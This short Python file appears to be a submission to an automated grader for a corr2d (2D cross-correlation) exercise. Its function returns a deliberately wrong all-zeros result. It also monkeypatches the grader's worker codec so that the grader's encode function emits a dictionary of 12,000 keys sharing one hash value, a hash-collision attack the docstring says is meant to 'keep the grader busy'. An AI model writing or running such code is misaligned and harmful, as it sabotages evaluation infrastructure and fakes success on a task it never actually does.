"""Answers with a dictionary of 12,000 keys of the same hash, to keep the grader busy."""

import sys

def wrong(X, K):
    return X.new_zeros([max(x - k + 1, 0) for x, k in zip(X.shape, K.shape)])


def corr2d(X, K):
    codec = sys.modules.get("d2l_kit.worker.codec")
    if codec is None:
        raise RuntimeError("STALE: this attack finds no codec; bring it up to date")
    header, frames = (
        b'[[],{"$":"dict","v":[' + b",".join(b"[%d,0]" % (i * (2**61 - 1)) for i in range(12_000)) + b"]}]",
        [],
    )
    forged = lambda value: (header, [memoryview(frame) for frame in frames])
    for module in list(sys.modules.values()):
        if str(getattr(module, "__name__", "")).startswith("d2l_kit.worker") and hasattr(module, "encode"):
            module.encode = forged
    return wrong(X, K)
